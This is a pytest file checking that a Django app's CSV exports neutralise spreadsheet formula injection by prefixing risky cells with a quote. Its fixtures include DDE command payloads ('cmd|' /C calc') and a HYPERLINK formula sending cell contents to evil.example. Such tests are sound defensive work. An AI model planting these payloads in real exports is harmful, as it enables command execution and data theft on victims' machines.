"""CSV exports neutralise formula cells by OWASP's rule (issue 10, item 4): a text cell starting
with =, +, -, @, tab or CR gets a leading single quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from annotate.models import Pair
from annotate.services import preference_submit, rater_for_user
from exports.formats import csv_cell, csv_chunks


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("- a bullet point", "'- a bullet point"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        # Numbers are numbers, whatever their sign, as values or as text.
        (-2, -2),
        (-0.5, -0.5),
        ("-2", "-2"),
        ("+1.5e3", "+1.5e3"),
        (None, None),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_csv_chunks_neutralise_every_text_column():
    rows = [{"a": "=1+1", "b": -3, "c": "@x"}]
    out = b"".join(csv_chunks(rows, ["a", "b", "c"])).decode()
    assert list(csv.reader(io.StringIO(out))) == [["a", "b", "c"], ["'=1+1", "-3", "'@x"]]


@pytest.mark.django_db
def test_annotations_export_neutralises_a_planted_formula(project, researcher, annotator):
    item = project.items.create(external_id="=cmd|' /C calc'!A0", prompt="p")
    a = item.responses.create(external_id="a", text="x", model="m")
    b = item.responses.create(external_id="b", text="y", model="n")
    pair = Pair.objects.create(item=item, response_a=a, response_b=b)
    preference_submit(rater=rater_for_user(user=annotator), pair=pair, strength=-2,
                      justification='=HYPERLINK("http://evil.example/?"&A1)')
    client = APIClient()
    client.force_authenticate(researcher)
    response = client.get(f"/api/projects/{project.pk}/export/?format=annotations&file=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    (row,) = [r for r in rows if r["annotation"] == "preference"]
    assert row["justification"] == "'=HYPERLINK(\"http://evil.example/?\"&A1)"
    assert row["item_id"] == "'=cmd|' /C calc'!A0"
    assert row["strength"] == "-2"
